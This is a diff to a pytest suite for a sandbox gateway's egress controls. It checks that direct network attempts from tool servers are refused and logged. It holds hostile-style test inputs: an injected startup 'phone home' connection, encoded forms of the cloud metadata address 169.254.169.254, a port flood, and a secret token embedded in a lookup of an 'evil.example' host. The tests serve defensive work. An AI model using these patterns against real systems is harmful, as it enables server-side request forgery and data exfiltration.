@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import os
+import signal
 from collections.abc import AsyncGenerator
 from contextlib import asynccontextmanager
 from dataclasses import dataclass
@@ -24,6 +26,7 @@ from gateway.sandbox.drivers import make_driver
 from gateway.sandbox.egress import EgressGate, EgressSettings
 from tests.support.docker_engine import provide_engine
 from tests.support.gateways import copy_pack, served
+from tests.support.launchers import launchers
 from tests.support.ledgers import records_of
 from tests.support.tls import authority, https_server
 
@@ -66,10 +69,19 @@ async def lookup(host: str, port: int) -> list[str]:
 
 @asynccontextmanager
 async def net(
-    tmp_path: Path, limits: EgressSettings | None = None, manifest: str = "", **more: Any
+    tmp_path: Path,
+    limits: EgressSettings | None = None,
+    manifest: str = "",
+    phones: str | None = None,
+    **more: Any,
 ) -> AsyncGenerator[Net]:
-    """Serve the pack; `manifest` is another line about its server."""
+    """Serve the pack; `manifest` is another line about its server, `phones` what that calls as it starts."""
     pack = copy_pack("net", tmp_path).folder
+    if phones is not None:
+        server = pack / "servers" / "net.py"
+        call = f"import socket\nsocket.socket().connect_ex(({phones!r}, 443))\n"
+        (server.parent / "phone.py").write_text(call)
+        server.write_text(server.read_text().replace("import os\n", "import os\nimport phone\n", 1))
     authority(pack / "fixtures" / "start", "a.web.example")
     with https_server(pack / "fixtures" / "start") as port:
         for name in ("toolpack.yaml", "policy.yaml"):
@@ -107,8 +119,10 @@ async def test_a_granted_host_and_port_work_over_https_and_are_in_the_ledger(tmp
     assert opened["egress"] == {
         "asked": f"a.web.example:{here.port}",
         "host": "a.web.example",
+        "protocol": "connect",
         "port": here.port,
         "addresses": ["127.0.0.1"],
+        "attempts": 1,
     }
     assert (opened["session"], opened["principal"], opened["server"]) == (session.id, "local", "net")
     assert opened["decision"]["rule"] == f"*.web.example:{here.port}"
@@ -186,12 +200,114 @@ async def test_every_way_around_is_refused_and_recorded(tmp_path: Path) -> None:
     assert verify(tmp_path / "state").ok
 
 
-async def test_past_the_proxy_there_is_nothing(tmp_path: Path) -> None:
-    async with net(tmp_path) as here:
-        for host in ("127.0.0.1", "1.1.1.1", "169.254.169.254", "::1"):
-            assert "failed" in await here.call("connect", host=host, port=here.port)
-        assert "failed" in await here.call("datagram", host="1.1.1.1", port=53)
+NO_GRANTS = "version: 1\nrules: [{id: all, allow: 'net.*'}]\n"
+TRIED = {
+    ("connect", "169.254.169.254", 80): "tcp 169.254.169.254:80",
+    ("connect", "10.0.0.1", 22): "tcp 10.0.0.1:22",
+    ("connect", "203.0.113.7", 443): "tcp 203.0.113.7:443",
+    ("connect", "2001:db8::7", 443): "tcp [2001:db8::7]:443",
+    ("connect", "::ffff:192.168.0.1", 80): "tcp 192.168.0.1:80",
+    ("connect", "0xa9fea9fe", 81): "tcp 169.254.169.254:81",
+    ("connect", "2852039166", 82): "tcp 169.254.169.254:82",
+    ("connect", "10.1", 83): "tcp 10.0.0.1:83",
+    ("datagram", "203.0.113.7", 53): "udp 203.0.113.7:53",
+    ("datagram", "2001:db8::7", 123): "udp [2001:db8::7]:123",
+    ("connect", "web.example", 443): "dns web.example",
+}
+"""What a server tries by itself, and how the ledger names it."""
+
+
+@pytest.mark.parametrize("granted", [True, False])
+@pytest.mark.parametrize("manifest", ["", "    fork_server: true\n"])
+async def test_past_the_proxy_everything_is_refused_and_recorded(
+    granted: bool, manifest: str, tmp_path: Path
+) -> None:
+    more: dict[str, Any] = {} if granted else {"policy": NO_GRANTS}
+    async with net(tmp_path, manifest=manifest, **more) as here:
+        for tool, host, port in TRIED:
+            assert "failed" in await here.call(tool, host=host, port=port)
         assert "failed" in await here.call("resolve", host="a.web.example")
+        assert "failed" in await here.call("connect", host="127.0.0.1", port=here.port)
+        assert "failed" in await here.call("connect", host="::1", port=here.port)
+        session = here.session
+    found = [r for r in records_of(tmp_path / "state") if r["event"] == "egress"]
+    asked = [record["egress"]["asked"] for record in found if record["egress"]["protocol"]]
+    assert sorted(asked) == sorted([*TRIED.values(), "dns a.web.example"])
+    assert {r["session"] for r in found} == {session.id}
+    assert {(r["decision"]["effect"], r["decision"]["code"]) for r in found} == {("deny", "past_the_proxy")}
+    metadata = next(r for r in found if r["egress"]["asked"] == "tcp 169.254.169.254:80")
+    assert metadata["egress"] == {
+        "asked": "tcp 169.254.169.254:80",
+        "protocol": "tcp",
+        "host": "169.254.169.254",
+        "port": 80,
+        "addresses": ["169.254.169.254"],
+        "attempts": 1,
+    }
+    assert "net -> tcp 169.254.169.254:80  deny [past_the_proxy]" in record_line(metadata)
+    assert len(list(query(tmp_path / "state", effect="deny"))) == len(found)
+    assert verify(tmp_path / "state").ok
+
+
+async def test_a_flood_past_the_proxy_is_counted_and_does_not_flood_the_ledger(tmp_path: Path) -> None:
+    async with net(tmp_path) as here:
+        assert await here.call("flood", host="203.0.113.7", ports=300, each=20) == "sent"
+        assert "failed" in await here.call("connect", host="203.0.113.7", port=443)
+        tally = here.gateway.readings.egress.decisions
+    found = [r["egress"] for r in records_of(tmp_path / "state") if r["event"] == "egress"]
+    assert len(found) <= 65
+    assert found[-1]["protocol"] is None
+    assert sum(each["attempts"] for each in found) == 300 * 20 + 1
+    assert tally[("net", "net", "deny", "past_the_proxy")] == 300 * 20 + 1
+
+
+async def test_what_two_sessions_try_is_not_mixed_up(tmp_path: Path) -> None:
+    async with net(tmp_path, manifest="    fork_server: true\n", policy=NO_GRANTS) as here:
+        others = [Net(here.gateway, await here.gateway.open_session("net", LOCAL), 0) for _ in range(3)]
+        async with anyio.create_task_group() as tasks:
+            for number, one in enumerate(others):
+                for port in range(5):
+                    tasks.start_soon(connects, one, f"203.0.113.{number}", 1000 + port)
+        told_of = {one.session.id: f"203.0.113.{number}" for number, one in enumerate(others)}
+    found = [r for r in records_of(tmp_path / "state") if r["event"] == "egress"]
+    assert len(found) == 15
+    assert all(record["egress"]["host"] == told_of[record["session"]] for record in found)
+
+
+async def connects(here: Net, host: str, port: int) -> None:
+    assert "failed" in await here.call("connect", host=host, port=port)
+
+
+async def test_once_the_launcher_was_killed_the_next_one_sees_as_much(tmp_path: Path) -> None:
+    async with net(tmp_path) as here:
+        await connects(here, "203.0.113.7", 1)
+        while not told(tmp_path):
+            await anyio.lowlevel.checkpoint()
+        (launcher,) = launchers()
+        os.kill(launcher, signal.SIGKILL)
+        here.session = await here.gateway.open_session("net", LOCAL)
+        await connects(here, "203.0.113.7", 2)
+    assert [asked for _, _, asked in told(tmp_path)] == ["tcp 203.0.113.7:1", "tcp 203.0.113.7:2"]
+
+
+@pytest.mark.parametrize("manifest", ["", "    fork_server: true\n"])
+async def test_what_a_server_tries_when_it_starts_is_recorded_before_it_is_anybody_s(
+    manifest: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    settings = GatewaySettings(pool=PoolSettings(1, 1))
+    more: dict[str, Any] = {"manifest": manifest, "policy": NO_GRANTS, "settings": settings}
+    async with net(tmp_path, phones="203.0.113.7", **more) as here:
+        await here.call("variables")
+        while not (found := told(tmp_path)):
+            await anyio.lowlevel.checkpoint()
+    assert found[0] == ("deny", "past_the_proxy", "tcp 203.0.113.7:443")
+    record = next(r for r in records_of(tmp_path / "state") if r["event"] == "egress")
+    assert (record["session"], record["pack"], record["server"]) == (None, "net", "net")
+    assert "is not forked" not in caplog.text
+
+
+async def test_a_server_with_a_way_out_is_told_of_it(tmp_path: Path) -> None:
+    async with net(tmp_path) as here:
         variables = dict(line.split("=", 1) for line in (await here.call("variables")).splitlines())
     names = {"HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY", "https_proxy", "http_proxy", "all_proxy"}
     assert names <= variables.keys()
@@ -253,19 +369,19 @@ async def test_a_warm_sandbox_is_recorded_as_its_session_s_once_it_is_somebody_s
     assert set(sessions) == {owner}
 
 
-NO_GRANTS = "version: 1\nrules: [{id: all, allow: 'net.*'}]\n"
-
-
 async def test_without_a_written_grant_a_sandbox_has_no_proxy_at_all(tmp_path: Path) -> None:
     async with net(tmp_path, policy=NO_GRANTS) as here:
         assert await here.call("variables") == ""
         assert "failed" in await here.call("fetch", url=f"https://a.web.example:{here.port}/")
-    assert told(tmp_path) == []
+    assert told(tmp_path)[0] == ("deny", "past_the_proxy", "dns a.web.example")
 
 
 async def test_a_secret_in_a_host_name_does_not_reach_the_ledger(tmp_path: Path) -> None:
     secret = "hush86399"
     async with net(tmp_path, secrets={"TOKEN": secret}) as here:
         assert "403" in await here.connect(f"{secret}.evil.example:443")
-    assert secret not in "".join(map(str, records_of(tmp_path / "state")[-2:]))
+        assert "failed" in await here.call("resolve", host=f"{secret}.evil.example")
+    found = [r for r in records_of(tmp_path / "state") if r["event"] == "egress"]
+    assert secret not in str(found)
+    assert ("deny", "past_the_proxy", "dns [secret].evil.example") in told(tmp_path)
     assert ("deny", "not_granted", "[secret].evil.example:443") in told(tmp_path)
